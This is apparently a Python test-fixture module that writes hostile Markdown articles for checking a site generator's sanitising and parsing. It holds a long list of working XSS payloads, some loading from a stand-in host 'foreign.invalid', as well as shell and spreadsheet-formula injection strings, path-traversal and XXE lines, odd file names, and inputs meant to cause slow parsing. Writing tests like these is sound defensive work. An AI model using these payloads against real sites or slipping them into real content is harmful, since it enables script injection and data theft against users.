"""Write hostile archives: every spelling of a payload in every place a text can put it, and every odd file.

The texts are made up for these tests. A payload that runs calls `alert`, so that a browser tells.
Words such as `kelp0007` stand around the payloads; a page that lacks one has lost text.
"""

import itertools
import os
import random
from pathlib import Path
from typing import NamedTuple

SCRIPT = "alert(document.domain)"
FOREIGN = "https://foreign.invalid"

PAYLOADS = tuple(
    line.replace("ALERT", SCRIPT).replace("FOREIGN", FOREIGN).encode("latin-1").decode("unicode_escape")
    for line in r'''
<script>ALERT</script>
<ScRiPt >ALERT</sCrIpT >
<script/x>ALERT</script/x>
<script src=//foreign.invalid/x.js></script>
<script>ALERT
</script><script>ALERT</script>
<<script>ALERT//<</script>
<img src=x onerror=ALERT>
<img src="x" onerror="ALERT" alt="a">
<img/src=x/onerror=ALERT>
<img src=`x`onerror=ALERT>
<img """><script>ALERT</script>">
<IMG SRC=javascript:ALERT>
<img src=FOREIGN/pixel.png width=1 height=1>
<img srcset="FOREIGN/pixel.png 2x" src=x>
<picture><source srcset="FOREIGN/p.png"><img src="FOREIGN/p.png"></picture>
<svg onload=ALERT>
<svg><script>ALERT</script></svg>
<svg><animate onbegin=ALERT attributeName=x dur=1s>
<svg><a xlink:href="javascript:ALERT"><text y=20>tap</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=ALERT>#x"></svg>
<svg></p><style><a id="</style><img src=1 onerror=ALERT>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ALERT&gt;">
<math><annotation-xml encoding="text/html"><script>ALERT</script></annotation-xml></math>
<math href="javascript:ALERT">tap</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ALERT>
<noscript><p title="</noscript><img src=x onerror=ALERT>">
<template><script>ALERT</script></template>
<template shadowrootmode=open><img src=x onerror=ALERT></template>
<textarea></textarea><img src=x onerror=ALERT>
<title></title><img src=x onerror=ALERT>
<title><a title="</title><img src=x onerror=ALERT>">
<xmp><p title="</xmp><img src=x onerror=ALERT>">
<noembed><img title="</noembed><img src=x onerror=ALERT>"></noembed>
<iframe src="javascript:ALERT"></iframe>
<iframe srcdoc="<script>ALERT</script>"></iframe>
<iframe src=FOREIGN></iframe>
<object data="javascript:ALERT"></object>
<object data="data:text/html,<script>ALERT</script>"></object>
<embed src="javascript:ALERT">
<applet code=x></applet>
<video src=FOREIGN/v.mp4 onerror=ALERT autoplay></video>
<video><source onerror=ALERT></video>
<audio src=FOREIGN/a.mp3 autoplay></audio>
<body onload=ALERT>
<html onclick=ALERT lang=xx>
<head><base href="FOREIGN/"></head>
<base href="javascript:ALERT//">
<meta http-equiv=refresh content="0;url=javascript:ALERT">
<meta http-equiv="refresh" content="0; url=FOREIGN/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel=stylesheet href=FOREIGN/s.css>
<link rel=preload as=script href=FOREIGN/s.js>
<style>@import url(FOREIGN/s.css); body{display:none}</style>
<style><img src="</style><img src=x onerror=ALERT>">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(FOREIGN/b.png)">over</div>
<div class="top page" id="main" name="main">own</div>
<p id=main class=skip onclick=ALERT>own</p>
<a id=location name=cookie href=x>clobber</a>
<form id=body action=FOREIGN><input name=attributes><button formaction=javascript:ALERT>go</button></form>
<input onfocus=ALERT autofocus>
<select autofocus onfocus=ALERT><option>one</select>
<details open ontoggle=ALERT><summary>more</summary>text</details>
<marquee onstart=ALERT>run</marquee>
<dialog open onclose=ALERT>talk</dialog>
<a href="javascript:ALERT">tap</a>
<a href=" javascript:ALERT">tap</a>
<a href="\x01javascript:ALERT">tap</a>
<a href="JaVaScRiPt:ALERT">tap</a>
<a href="java&#10;script:ALERT">tap</a>
<a href="java&Tab;script:ALERT">tap</a>
<a href="java\tscript:ALERT">tap</a>
<a href="&#106;avascript&colon;ALERT">tap</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ALERT">tap</a>
<a href="javascript&#58;ALERT">tap</a>
<a href="vbscript:msgbox(1)">tap</a>
<a href="data:text/html,<script>ALERT</script>">tap</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">tap</a>
<a href="view-source:javascript:ALERT">tap</a>
<a href="blob:FOREIGN/x">tap</a>
<a href="file:///etc/hostname">tap</a>
<a href="//foreign.invalid/x">tap</a>
<a href="\\\\foreign.invalid\\x">tap</a>
<a href="https:foreign.invalid">tap</a>
<a href="FOREIGN" target=_blank rel=opener ping=FOREIGN/p download onclick=ALERT>tap</a>
<a href="#" onmouseover="ALERT">tap</a>
<b onmouseover=ALERT>bold</b>
<p/onclick=ALERT>text
<a href='FOREIGN/?a="onmouseover="ALERT'>tap</a>
<a title='"onmouseover="ALERT' href=FOREIGN>tap</a>
[tap](javascript:ALERT)
[tap](JAVASCRIPT:ALERT)
[tap](<javascript:ALERT>)
[tap](java&#115;cript:ALERT)
[tap](javascript&colon;ALERT)
[tap](javas%63ript:ALERT)
[tap](\\javascript:ALERT)
[tap](<java
script:ALERT>)
[tap](vbscript:msgbox)
[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[tap](file:///etc/hostname)
[tap](//foreign.invalid/x)
[tap](FOREIGN/"onmouseover="ALERT)
[tap](FOREIGN "\"onmouseover=\"ALERT")
[tap](FOREIGN '"><script>ALERT</script>')
[tap](FOREIGN (<img src=x onerror=ALERT>))
[<img src=x onerror=ALERT>](FOREIGN)
[`<script>ALERT</script>`](FOREIGN)
![<img src=x onerror=ALERT>](FOREIGN/x.png)
![x" onerror="ALERT](FOREIGN/x.png)
![x](javascript:ALERT)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](FOREIGN/x.png" onerror="ALERT)
![x](FOREIGN/x.png "\" onerror=\"ALERT")
<javascript:ALERT>
<FOREIGN/"onmouseover="ALERT>
<https://user:pass@foreign.invalid/<script>>
`<script>ALERT</script>`
</p></section></article></main></div></body></html>
</section></div><section id="s0" data-class="article" data-role="body">
</article><footer class=bottom>false footer</footer>
<!--
<!-- --!><script>ALERT</script> -->
<!--><script>ALERT</script>-->
<?php echo 1 ?><script>ALERT</script>
<![CDATA[<script>ALERT</script>]]>
<!DOCTYPE html><script>ALERT</script>
<!ENTITY x SYSTEM "file:///etc/hostname">
]]><script>ALERT</script>
--><script>ALERT</script>
"><script>ALERT</script>
' onmouseover='ALERT
" autofocus onfocus="ALERT
</title><script>ALERT</script>
</script><script>ALERT</script>
</style><script>ALERT</script>
</textarea><script>ALERT</script>
&lt;script&gt;ALERT&lt;/script&gt;
&#60;script&#62;ALERT&#60;/script&#62;
\u003cscript\u003eALERT\u003c/script\u003e
\\u003cscript\\u003eALERT\\u003c/script\\u003e
{{ 7 * 7 }} {{ page.__class__ }} {{ config }}
{% include "base.html" %} {% raw %} {# comment
${7*7} #{7*7} <%= 7*7 %> [[7*7]]
<a
<a href="FOREIGN
<a href='
<b><i><u><s>
</b></i></u></s>
<table><tr><td>
</td></tr></table></div></div>
<ul><li><ol><li><blockquote><pre><code>
<select><option><table><tr><td><a>
<p><table><a href=FOREIGN><table><a href="javascript:ALERT">
<plaintext>
<xss/onpointerenter=ALERT>tap</xss>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">ALERT</x:script>
<a\x0conclick=ALERT>tap</a>
<a\x00href=javascript:ALERT>tap</a>
<\x00script>ALERT</script>
<scr\x00ipt>ALERT</script>
\uff1cscript\uff1eALERT\uff1c/script\uff1e
\u202ereversed\u2066 words \u2069\u200f
\x1b[2J\x1b]0;own\x07\x08\x7f
\x85\x9b31m\u2028\u2029\ufeff\u200b
\ufdd0\ufffe\uffff\U0001fffe
$(touch own) `touch own` | touch own ; touch own
=cmd|' /C calc'!A0
../../../../etc/passwd
C:\\windows\\own \\\\server\\share
%2e%2e%2f%00
'''.strip().split("\n")
    if line
)
"""One to a line; a payload that needs two lines is split by `\\n`, which is read as a line break."""

# Every place of an article a text can reach. PAYLOAD stands once or twice, KELP words around it.
BODY_PLACES: dict[str, str] = {
    "paragraph": "KELP The tide table says PAYLOAD and the harbour says KELP otherwise.",
    "own-block": "KELP\n\nPAYLOAD\n\nKELP",
    "heading": "### KELP PAYLOAD KELP",
    "item": "- KELP PAYLOAD\n- KELP",
    "quote": "> KELP PAYLOAD\n> KELP",
    "cell": "| KELP | PAYLOAD |\n|---|:-:|\n| PAYLOAD | KELP |",
    "link-text": "KELP [PAYLOAD](https://gauge.example/) KELP",
    "link-target": "KELP [tap](<PAYLOAD>) and [tap](PAYLOAD) KELP",
    "link-title": 'KELP [tap](https://gauge.example/ "PAYLOAD") KELP',
    "image": 'KELP ![PAYLOAD](PAYLOAD "PAYLOAD") KELP',
    "autolink": "KELP <https://gauge.example/?PAYLOAD> KELP",
    "reference": "KELP [tap][one] KELP\n\n[one]: PAYLOAD\n\nKELP\n\n[two]: <PAYLOAD> 'PAYLOAD'\n\nKELP",
    "fence": "KELP\n\n```PAYLOAD\nKELP PAYLOAD\n```\n\nKELP",
    "listing": "KELP\n\n~~~ html PAYLOAD\nKELP PAYLOAD\n~~~\n\nKELP",
    "code": "KELP `PAYLOAD` KELP\n\n    PAYLOAD KELP",
    "footnote": "KELP it stood[^PAYLOAD] and[^n] KELP.\n\n[^n]: KELP PAYLOAD\n[^PAYLOAD]: PAYLOAD KELP",
    "emphasis": "KELP **PAYLOAD** _PAYLOAD_ ~~PAYLOAD~~ KELP",
    "raw-inline": 'KELP <b title="PAYLOAD">bold</b> <abbr title="PAYLOAD">abbr</abbr> KELP',
    "raw-block": '<div title="PAYLOAD">\nKELP PAYLOAD\n</div>\n\nKELP',
    "notice": "**Disclaimer:** The views expressed are those of the author, KELP PAYLOAD. KELP",
    "appeal": "Please [support our work](PAYLOAD) with a donation, KELP PAYLOAD. KELP",
}
HEAD_PLACES: dict[str, str] = {
    "title": "## The gauge PAYLOAD\n\nBy [Ines Marr](#)\n\nHarbour Review, February 04, 2020",
    "byline": "## The gauge\n\nBy [PAYLOAD](#) and Ines PAYLOAD Marr\n\nHarbour Review, February 04, 2020",
    "dateline": "## The gauge\n\nBy Ines Marr\n\nHarbour PAYLOAD Review, February 04, 2020\n\nPAYLOAD 3 February 2020",
    "labels": "## The gauge\n\nBy Ines Marr\n\nHarbour Review, February 04, 2020\n\n"
    "Region: [PAYLOAD](#), PAYLOAD\n\nTheme: [PAYLOAD](PAYLOAD), PAYLOAD\n\nIn-depth Report: [PAYLOAD](#)",
    "matter": "---\ntitle: 'PAYLOAD'\nauthor: ['PAYLOAD', 'Ines Marr']\ndate: 'PAYLOAD'\n"
    "publisher: 'PAYLOAD'\nsource: 'PAYLOAD'\nsource_url: 'PAYLOAD'\nregions: ['PAYLOAD']\n"
    "themes: ['PAYLOAD']\nreports: 'PAYLOAD'\nlang: 'PAYLOAD'\n---",
    "toml-matter": "+++\ntitle = '''PAYLOAD'''\nregions = ['''PAYLOAD''']\nsource_url = '''https://gauge.example/PAYLOAD'''\n"
    "url = 'javascript:alert(1)'\n+++",
    "bare": "PAYLOAD",
}


class Made(NamedTuple):
    """One hostile article."""

    name: str
    """Relative to the content folder."""
    text: str
    words: tuple[str, ...]
    """The words its page must show, in order."""


class Kelp:
    """Gives words that stand nowhere else."""

    def __init__(self) -> None:
        self._number = itertools.count()

    def filled(self, template: str, payload: str, words: list[str]) -> str:
        """Put a payload and fresh words into a template; the words are added to the list."""
        first, *rest = template.split("KELP")
        pieces = [first]
        for each in rest:
            word = f"kelp{next(self._number):05d}"
            words.append(word)
            pieces += (word, each)
        return "".join(pieces).replace("PAYLOAD", payload)


def _one_line(payload: str) -> str:
    return payload.replace("\n", " ")


def _quoted(payload: str) -> str:
    return _one_line(payload).replace("'", "''")


def articles() -> list[Made]:
    """Give one article to a payload, with the payload in every other place of the body and one of the head."""
    kelp = Kelp()
    heads = list(HEAD_PLACES.items())
    made = []
    for number, payload in enumerate(_without_null(PAYLOADS)):
        place, head = heads[number % len(heads)]
        words: list[str] = []
        line = _quoted(payload) if place == "matter" else _one_line(payload)
        blocks = [head.replace("PAYLOAD", line)]
        blocks += [
            kelp.filled(body, payload if body.endswith("PAYLOAD\n\nKELP") else _one_line(payload), words)
            for body in list(BODY_PLACES.values())[number % 2 :: 2]
        ]
        made.append(Made(f"payloads/p{number:03d}-{place}.md", "\n\n".join(blocks) + "\n", tuple(words)))
    return made


def matrix() -> list[Made]:
    """Give every payload in every place, one article to each pair."""
    kelp = Kelp()
    made = []
    for number, payload in enumerate(_without_null(PAYLOADS)):
        for place, head in HEAD_PLACES.items():
            line = _quoted(payload) if place == "matter" else _one_line(payload)
            words: list[str] = []
            text = head.replace("PAYLOAD", line) + kelp.filled("\n\nKELP the tide came in KELP.\n", "", words)
            made.append(Made(f"head/{place}/p{number:03d}.md", text, tuple(words)))
        for place, body in BODY_PLACES.items():
            words = []
            text = kelp.filled("## The gauge\n\nBy Ines Marr\n\nKELP before\n\n", "", words)
            text += kelp.filled(body, payload, words) + kelp.filled("\n\nKELP after\n", "", words)
            made.append(Made(f"body/{place}/p{number:03d}.md", text, tuple(words)))
    return made


def _without_null(payloads: tuple[str, ...]) -> list[str]:
    """A file with a NUL is refused as a whole; those payloads are tried without it."""
    return [payload.replace("\0", "") for payload in payloads]


def spliced(seed: int, *, pieces: int = 12) -> tuple[str, tuple[str, ...]]:
    """Give a text of random fragments of payloads and places, and the words it must show."""
    draw = random.Random(seed)
    kelp = Kelp()
    words: list[str] = []
    text = []
    for _ in range(pieces):
        payload = draw.choice(PAYLOADS).replace("\0", "")
        start = draw.randrange(len(payload) + 1)
        part = payload[start : start + draw.randrange(1, 60)] if draw.random() < 0.5 else payload
        text.append(kelp.filled(draw.choice(list(BODY_PLACES.values())), part, words))
        text.append(draw.choice(["\n\n", "\n", "\n\n", " ", "\n> ", "\n- ", "\n    ", "\n\n"]))
    return "".join(text), tuple(words)


PLAIN = """## {title}

By [Ines Marr](#)

Harbour Review, February 04, 2020

The tide came in and went out again, as it does on most days here, and nobody wrote it down.
"""


def odd_names() -> list[bytes]:
    """Give names of files that each hold an article; no two are one file on Linux."""
    deep = b"/".join([b"d"] * 300)
    names = [
        "Case.md", "case.md", "CASE.MD", "caf\u00e9.md", "cafe\u0301.md", "\U0001f30a.md", "\U0001f30a\U0001f41f.md",
        "con.md", "CON.txt", "nul.markdown", "aux/prn.md", "com1.md", "lpt9.con.md", "-rf.md", "--help.md", "-/-.md",
        "a b  c.md", " lead.md", "trail .md", "dots...md", "..dots.md"[1:] + "x.md", "semi;colon.md", "star*.md",
        "what?.md", "pipe|.md", "less<more>.md", "quote\"'.md", "back\\slash.md", "col:on.md", "new\nline.md",
        "tab\t.md", "bell\x07.md", "esc\x1b[2J.md", "rlo\u202emd.md", "{{ 7*7 }}.md", "{% raw %}.md", "%2e%2e.md",
        "%00.md", "index.html.md", "index.md", "article.md", "page-1.md", "articles/index.md", "articles/page-1.md",
        "static/style.css.md", "404.md", "feed.xml.md", "<img src=x onerror=alert(1)>.md",
        "\" onmouseover=\"alert(1).md", "&lt;script&gt;.md", "x" * 200 + ".md", "y" * 100 + "/" + "z" * 200 + ".md",
        "\u0645\u062f.md", "\u6f6e.md", "CamelCase/Sub.md", "camelcase/sub.md", "a/b.md", "a-b.md", "a b.md", "a_b.md",
        "a.md/inner.md", "same.md", "same.txt", "same.markdown", "Holm!.md", "holm.md", "$HOME.md", "~.md", "`id`.md",
        "#.md", "...md".replace("...", "x.."), "\u00ad.md", "\u200b.md", "\u1e9e.md", "\u0130.md", "\u212a.md", "k.md",
    ]  # fmt: skip
    raw = [
        b"caf\xe9.md",
        b"\xff\xfe.md",
        b"dir\xe9/\x80.md",
        b"\xf0\x9f.md",
        deep + b"/deep.md",
        deep + b"/Deep.md",
    ]
    return [*(name.encode() for name in names), *raw]


def write_odd_names(content: Path) -> list[bytes]:
    """Write an article under every odd name; gives the names the file system took."""
    taken = []
    for number, name in enumerate(odd_names()):
        path = os.path.join(os.fsencode(content), name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "xb") as file:
                file.write(PLAIN.format(title=f"Odd name {number}").encode())
        except OSError:
            continue
        taken.append(name)
    return taken


def write(content: Path, made: list[Made]) -> None:
    """Write articles below a folder."""
    for each in made:
        path = content / each.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(each.text, "utf-8", newline="")


PATHOLOGICAL: dict[str, tuple[str, str, str]] = {
    # name: what stands before, what is repeated, what stands behind
    "quotes": ("", "> ", "a"),
    "quotes-deepening": ("", "\n".join(">" * n for n in range(1, 30)) + "\n", "a"),
    "quote-lines": ("", ">a\n", ""),
    "brackets": ("", "[", "a"),
    "closing-brackets": ("", "]", "a"),
    "bracket-pairs": ("", "[a](", ""),
    "bracket-links": ("", "[a](b", ""),
    "open-target": ("[a](", "b", ""),
    "open-target-blank": ("[a](", "b ", ""),
    "open-target-parens": ("[a](", "(b)", ""),
    "open-title": ('[a](b "', "c", ""),
    "open-titles": ("", '[a](b "c', ""),
    "blank-target": ("[a](b", " ", '"c")'),
    "images": ("", "![", "a"),
    "image-targets": ("", "![a](", ""),
    "image-open": ("![a](", "(b)", ""),
    "label-references": ("", "[a][", ""),
    "references": ("", "[a]: b\n", ""),
    "references-used": ("[a]: b\n\n", "[a] ", ""),
    "many-references": ("", "[a%d]: /b '", ""),
    "stars": ("", "*", "a"),
    "star-words": ("", "*a ", ""),
    "star-closers": ("", "a* ", ""),
    "star-mixed": ("", "*a_ ", ""),
    "strong-mixed": ("", "**a *b__c ", ""),
    "triples": ("", "***a** b* ", ""),
    "underscores": ("", "_", "a"),
    "underscore-words": ("", "_a__ ", ""),
    "tildes": ("", "~~a ", ""),
    "tilde-run": ("a", "~", "a"),
    "backticks": ("", "`", "a"),
    "backtick-runs": ("", "".join("`" * n + " " for n in range(1, 30)), ""),
    "backslashes": ("", "\\", "a"),
    "entities": ("", "&amp;", ""),
    "entity-starts": ("", "&", "a"),
    "entity-numbers": ("", "&#1", ""),
    "table-bars": ("|", "a|", "\n|-|\n"),
    "table-rows": ("|a|b|\n|-|-|\n", "|c|d|\n", ""),
    "table-delimiters": ("|a|b|\n", "|-", "\n"),
    "table-grid": ("|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n", "|\n", ""),
    "rule-like": ("", "- ", "a"),
    "dashes": ("# ", "-", "a"),
    "dash-lines": ("", "-a\n", ""),
    "equals": ("# ", "=", "a"),
    "hashes": ("# a ", "#", "a"),
    "hash-blank": ("# a", " ", "b"),
    "hash-pairs": ("# a", " #", "b"),
    "heading-blanks": ("", "# a" + " " * 40 + "b\n", ""),
    "underlines": ("", "a\n---\n", ""),
    "blanks": ("a", " ", "b"),
    "tabs": ("a", "\t", "b"),
    "blank-lines": ("", "\n", "a"),
    "blank-line-blanks": ("", " \n", "a"),
    "line-ends": ("", "a  \n", ""),
    "numbers": ("", "1. ", "a"),
    "number-lines": ("", "1. a\n", ""),
    "digits": ("", "1", ""),
    "digit-dots": ("", "1.1.", ""),
    "lists-deepening": ("", "".join("  " * n + "- a\n" for n in range(12)), ""),
    "list-lazy": ("- a\n", "b\n", ""),
    "list-code": ("- a\n", "      b\n", ""),
    "fences": ("", "```\n", "a"),
    "fence-info": ("```", "a ", "\n"),
    "fence-open": ("```\n", "a\n", ""),
    "indents": ("", "    a\n", ""),
    "angles": ("", "<", "a"),
    "closing-angles": ("", ">", "a"),
    "tags": ("a ", "<b>", ""),
    "tag-pairs": ("a ", "<b>a</i>", ""),
    "tag-open": ("a ", "<b ", ""),
    "tag-attributes": ("a <b", " a=b", ">"),
    "tag-attributes-open": ("a <b", " a=b", ""),
    "tag-quotes": ("a ", '<b a="', ""),
    "tag-names": ("a <", "b", ""),
    "block-tags": ("", "<div>", ""),
    "block-tag-lines": ("", "<div>\n", ""),
    "block-tag-open": ("<div>\n", "<b a='", ""),
    "block-closers": ("<div>\n", "</div>", ""),
    "block-links": ("<div>\n", "<a href='https://a.example'>", ""),
    "tables-raw": ("<div>\n", "<table><a>", ""),
    "nested-formats": ("<div>\n", "<b><p>", ""),
    "comments": ("a ", "<!--", ""),
    "comment-ends": ("a <!--", "--!>", ""),
    "comment-dashes": ("a <!--", "-", ""),
    "block-comments": ("<div>\n", "<!-- a", ""),
    "raw-text": ("<div>\n", "<style>", ""),
    "raw-text-mixed": ("<div>\n", "<style><script><title><xmp>", ""),
    "instructions": ("a ", "<?", ""),
    "cdata": ("a ", "<![CDATA[", ""),
    "declarations": ("a ", "<!A ", ""),
    "autolinks": ("a ", "<https://a.example>", ""),
    "autolinks-open": ("a ", "<https://a", ""),
    "mails": ("a ", "a@b.example ", ""),
    "mail-run": ("a ", "a.", "@"),
    "mail-ats": ("a ", "a@", ""),
    "addresses": ("a ", "https://", ""),
    "address-dots": ("https://", "a.", ""),
    "footnotes": ("", "[^a]", "\n\n[^a]: b"),
    "footnote-definitions": ("[^a]\n\n", "[^a]: b\n", ""),
    "footnote-labels": ("", "[^", "a]: b"),
    "footnote-many": ("", "[^a]: [^b]: ", ""),
    "regions": ("", "Region: ", ""),
    "region-lines": ("", "Region: a\n", ""),
    "region-blocks": ("", "Region: a\n\n", ""),
    "region-links": ("Region: ", "[a](#)", ""),
    "region-links-comma": ("Region: ", "[a](#), ", ""),
    "region-commas": ("Region: ", ",", "a"),
    "region-list": ("Region: ", "a, ", ""),
    "region-blanks": ("Region:", " ", "a"),
    "region-stars": ("", "**Region:** ", ""),
    "region-slashes": ("Region: a", " / ", "b"),
    "theme-lines": ("Region: a\n\nTheme:\n", "a\n", ""),
    "report-blocks": ("", "In-depth Report: [a](#)\n\n", ""),
    "bylines": ("", "By ", "a"),
    "byline-blocks": ("", "By Ines Marr\n\n", ""),
    "byline-names": ("By ", "Ines Marr, ", ""),
    "byline-ands": ("By ", "Ines and ", ""),
    "byline-capitals": ("By ", "Ines Marr ", ""),
    "byline-links": ("By ", "[Ines Marr](#)", ""),
    "byline-initials": ("By ", "I. ", "Marr"),
    "dates": ("", "February 04, 2020 ", ""),
    "date-blocks": ("", "Harbour Review, February 04, 2020\n\n", ""),
    "date-numbers": ("", "04/05/2020 ", ""),
    "date-digits": ("", "2020-", ""),
    "date-months": ("", "February ", ""),
    "date-days": ("4 ", "February 4 ", ""),
    "date-commas": ("Harbour Review", ",", " 4 February 2020"),
    "times": ("", "12:30 ", ""),
    "capitals": ("", "Aa ", ""),
    "capital-run": ("", "A", ""),
    "colons": ("", "a: ", ""),
    "pipes": ("a ", "| ", "b"),
    "disclaimers": ("", "Disclaimer: the views expressed are those of the author. ", ""),
    "disclaimer-blocks": ("", "Disclaimer: the views expressed are those of the author.\n\n", ""),
    "copyrights": ("", "© 2020 ", ""),
    "copyright-names": ("© ", "Harbour ", ""),
    "donate": ("", "donate ", ""),
    "donate-blocks": ("", "Please donate to support our work.\n\n", ""),
    "first-published": ("", "This article was originally published by ", ""),
    "first-published-names": ("This article was originally published by ", "Harbour ", ""),
    "source-lines": ("", "Source: a\n", ""),
    "share-links": ("", "[Share](https://a.example/share) ", ""),
    "sentences": ("", "Tide. ", ""),
    "sentence-marks": ("", "! ", ""),
    "quotation-marks": ("", '"', "a"),
    "curly-quotes": ("", "“", "a"),
    "apostrophes": ("", "a'", ""),
    "hyphens": ("a", "-a", ""),
    "dash-words": ("", "— ", "a"),
    "word": ("", "a", ""),
    "words": ("", "tide ", ""),
    "lines": ("", "tide came in\n", ""),
    "blocks": ("", "tide\n\n", ""),
    "wide": ("", "潮", ""),
    "wide-words": ("", "潮 ", ""),
    "arabic": ("", "مد ", ""),
    "combining": ("a", "\u0301", ""),
    "joiners": ("", "\U0001f41f\u200d", ""),
    "soft-hyphens": ("a", "\u00ad", "a"),
    "zero-widths": ("a", "\u200b", "a"),
    "turning": ("a", "\u202e", "a"),
    "controls": ("a" * 400, "a" * 30 + "\x07", "a"),
    "replacement": ("a", "\ufffd", "a"),
    "no-break": ("a", "\u00a0", "a"),
    "carriage": ("a", "\r", "a"),
    "form-feeds": ("a" * 400, "a" * 30 + "\x0c", "a"),
    "matter-open": ("---\ntitle: a\n", "b: c\n", ""),
    "matter-long": ("---\ntitle: a\n", "b", ": c\n---\na"),
    "matter-blanks": ("---\ntitle", " ", ": c\n---\na"),
    "matter-prose": ("---\n", "b\n", "---\na"),
    "matter-flow": ("---\ntitle: ", "[", "\n---\na"),
    "matter-list": ("---\ntitle: a\nregions: [", "a,", "b]\n---\na"),
    "toml-open": ("+++\n", "a = 1\n", ""),
    "toml-flow": ("+++\na = ", "[", "\n+++\na"),
    "toml-dots": ("+++\na", ".a", " = 1\n+++\na"),
}  # fmt: skip
"""Families of texts whose cost must grow with their length and no faster."""


def pathological(name: str, size: int) -> str:
    """Give the member of a family that has about so many characters."""
    before, unit, after = PATHOLOGICAL[name]
    return before + unit * max(1, (size - len(before) - len(after)) // len(unit)) + after
